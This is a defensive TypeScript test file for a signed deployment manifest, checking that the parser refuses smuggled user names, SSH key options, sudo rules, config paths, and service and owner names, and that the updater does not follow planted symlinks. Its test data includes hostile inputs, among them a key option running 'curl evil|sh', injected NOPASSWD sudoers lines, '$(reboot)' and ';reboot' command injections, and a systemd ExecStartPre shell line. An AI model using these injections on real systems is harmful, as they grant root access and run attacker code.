/**
 * Attack tests of the environment access sections and config files of the
 * signed manifest (docs/environments.md). The attacker is whoever writes
 * the manifest's text before it is signed (a careless or compromised
 * publisher pipeline, a copy-pasted key) and a managed user on the machine.
 * Every smuggling attempt below is refused when the manifest is parsed
 * (so `manifest build` refuses to sign it and every updater refuses to
 * apply it) with the environment and field named; a user's planted
 * symlink is never followed by the applier.
 */
import { afterEach, beforeEach, describe, expect, test } from "bun:test";
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { parseManifest } from "../../lib/manifest.ts";
import { runUpdate } from "../../update/engine.ts";
import { fakeKey } from "../helpers/ssh-keys.ts";
import { type Fixture, makeFixture } from "../helpers/update-fixture.ts";

const K = fakeKey(1);
const manifest = (user: string, env = "dev") =>
  `version = 1\n[[env.${env}.access.users]]\n${user}\n`;
const refused = (text: string): string => {
  try {
    parseManifest(text, "bootstrapper.toml");
  } catch (e) {
    return String(e);
  }
  throw new Error(`accepted:\n${text}`);
};
const keyed = (extra: string) => `name = "dev"\nkeys = [${JSON.stringify(K)}]\n${extra}`;

describe("user names", () => {
  for (const name of [
    "dev\nroot",
    "dev:x:0:0",
    "../etc",
    "Dev",
    "root",
    "a b",
    "dev\u0000",
    "x".repeat(33),
  ])
    test(`refused: ${JSON.stringify(name)}`, () => {
      expect(
        refused(manifest(`name = ${JSON.stringify(name)}\nkeys = [${JSON.stringify(K)}]`)),
      ).toContain("env.dev.access.users.0.name");
    });
});

describe("SSH keys", () => {
  const bad = {
    "a second key smuggled after a newline": `${K}\n${fakeKey(2)}`,
    "command= option": `command="/bin/sh -c 'curl evil|sh'" ${K}`,
    "from= option": `from="*" ${K}`,
    "no-pty,permitopen option list": `no-pty,permitopen="*:*" ${K}`,
    "carriage return in the comment": `${K} ok\rcommand="x"`,
    "type that does not match the blob": K.replace("ssh-ed25519", "ssh-rsa"),
    "garbage instead of base64": "ssh-ed25519 AAAA$(reboot)",
  };
  for (const [what, key] of Object.entries(bad))
    test(`refused: ${what}`, () => {
      const e = refused(manifest(`name = "dev"\nkeys = [${JSON.stringify(key)}]`));
      expect(e).toContain("env.dev.access.users.0.keys.0");
      expect(e).toContain("SSH key");
    });
});

describe("sudo commands", () => {
  const bad = {
    "a new sudoers line after a newline": "/usr/bin/id\nevil ALL=(ALL) NOPASSWD: ALL",
    "ALL smuggled after a comma": "/usr/bin/id, ALL",
    "ALL as a bare command": "ALL",
    "a runas/tag colon": "/usr/bin/id : ALL",
    "a wildcard": "/usr/bin/systemctl *",
    "a path with ..": "/usr/bin/../../bin/sh",
    "a shell": "/bin/bash",
    "env running a shell": "/usr/bin/env bash",
    "a negation": "!/usr/bin/passwd",
    "a relative program": "id",
    "a sudoers escape": "/usr/bin/id \\,ALL",
  };
  for (const [what, cmd] of Object.entries(bad))
    test(`refused: ${what}`, () => {
      const e = refused(
        manifest(keyed(`sudo = "scoped"\nsudo_commands = [${JSON.stringify(cmd)}]`), "canary"),
      );
      expect(e).toContain("env.canary.access.users.0.sudo_commands.0");
    });

  test("passwordless sudo in production is refused, naming the environment", () => {
    expect(refused(manifest(keyed('sudo = "passwordless"'), "production"))).toContain(
      'environment "production": user "dev": passwordless sudo is not allowed',
    );
  });
});

describe("lockout", () => {
  test("an environment with no key, or sshd off, is refused with the environment named", () => {
    expect(refused(manifest('name = "ops"', "canary"))).toContain(
      'environment "canary": no user with an SSH key',
    );
    expect(refused(`version = 1\n[env.testing.access]\nsshd = false\n`)).toContain(
      'environment "testing": sshd = false leaves no way in',
    );
  });
});

describe("config files may not reach what access and trust manage", () => {
  for (const path of [
    "/etc/sudoers.d/evil",
    "/etc/sudoers",
    "/etc/passwd",
    "/etc/ssh/sshd_config",
    "/root/.ssh/authorized_keys",
    "/home/dev/.ssh/authorized_keys",
    "/var/lib/hero-init/update/keys.pub",
    "/etc/hero-init/vm.toml",
    "/etc/../etc/sudoers",
    "/proc/sys/kernel/core_pattern",
    "relative/path",
    "/etc/x\n/etc/y",
  ])
    test(`refused: ${JSON.stringify(path)}`, () => {
      expect(
        refused(`version = 1\n[[vm.files]]\npath = ${JSON.stringify(path)}\ncontent = "x"\n`),
      ).toContain("vm.files.0.path");
    });
});

describe("a config file's services and owner never reach systemctl, zinit or chown as more than a name", () => {
  const file = (extra: string) =>
    `version = 1\n[[node.files]]\npath = "/etc/app.conf"\ncontent = "x"\n${extra}\n`;
  for (const name of ["-H", "--now", "x;reboot", "x y", "x\nExecStartPre=/bin/sh", "../x", ""])
    test(`service refused: ${JSON.stringify(name)}`, () => {
      expect(refused(file(`services = [${JSON.stringify(name)}]`))).toContain(
        "node.files.0.services.0",
      );
    });
  for (const owner of ["root:root", "-1", "a b", "x\ny", "../x", "Root"])
    test(`owner refused: ${JSON.stringify(owner)}`, () => {
      expect(refused(file(`owner = ${JSON.stringify(owner)}`))).toContain("node.files.0.owner");
    });
});

describe("a managed user plants links in their home", () => {
  let f: Fixture;
  beforeEach(async () => {
    f = await makeFixture();
    f.source.env = "dev";
    mkdirSync(join(f.root, "etc"), { recursive: true });
    writeFileSync(join(f.root, "etc/passwd"), "root:x:0:0:root:/root:/bin/sh\n");
    writeFileSync(join(f.root, "etc/group"), "root:x:0:\n");
    writeFileSync(join(f.root, "etc/shadow"), "root:*:::::::\n");
    mkdirSync(join(f.pub, "access"), { recursive: true });
  });
  afterEach(() => f.close());
  const publish = (v: number, users: string) => {
    writeFileSync(join(f.pub, "access/dev.toml"), users);
    f.publish(v);
  };
  const user = (n: string, k: string) =>
    `[[users]]\nname = "${n}"\nkeys = [${JSON.stringify(k)}]\n`;

  test(".ssh turned into a link to /etc: the keys land in a real .ssh, nothing is written through the link", async () => {
    publish(1, user("dev", K));
    expect(
      (
        await runUpdate(f.source, f.paths, {
          restart: async () => {},
          health: async () => [],
          log: () => {},
        })
      ).outcome,
    ).toBe("updated");
    const target = join(f.root, "victim");
    mkdirSync(target);
    const ssh = join(f.root, "home/dev/.ssh");
    Bun.spawnSync(["rm", "-rf", ssh]);
    symlinkSync(target, ssh);
    publish(2, user("dev", fakeKey(7)));
    const r = await runUpdate(f.source, f.paths, {
      restart: async () => {},
      health: async () => [],
      log: () => {},
    });
    expect(r.outcome).toBe("updated");
    expect(readdirSync(target)).toEqual([]);
    expect(readFileSync(join(ssh, "authorized_keys"), "utf8")).toContain(fakeKey(7));
  });

  test("a removed user's home turned into a link: it is not chowned or emptied through the link", async () => {
    publish(1, user("dev", K) + user("ops", fakeKey(3)));
    const hooks = { restart: async () => {}, health: async () => [], log: () => {} };
    expect((await runUpdate(f.source, f.paths, hooks)).outcome).toBe("updated");
    const target = join(f.root, "precious");
    mkdirSync(join(target, ".ssh"), { recursive: true, mode: 0o755 });
    writeFileSync(join(target, ".ssh/authorized_keys"), "keep\n");
    Bun.spawnSync(["rm", "-rf", join(f.root, "home/ops")]);
    symlinkSync(target, join(f.root, "home/ops"));
    publish(2, user("dev", K));
    expect((await runUpdate(f.source, f.paths, hooks)).outcome).toBe("updated");
    expect(readFileSync(join(target, ".ssh/authorized_keys"), "utf8")).toBe("keep\n");
    expect(statSync(target).mode & 0o777).toBe(0o755);
    expect(readFileSync(join(f.root, "etc/passwd"), "utf8")).not.toContain("ops:");
    expect(existsSync(join(f.root, "etc/sudoers.d/hero-init-ops"))).toBe(false);
  });
});
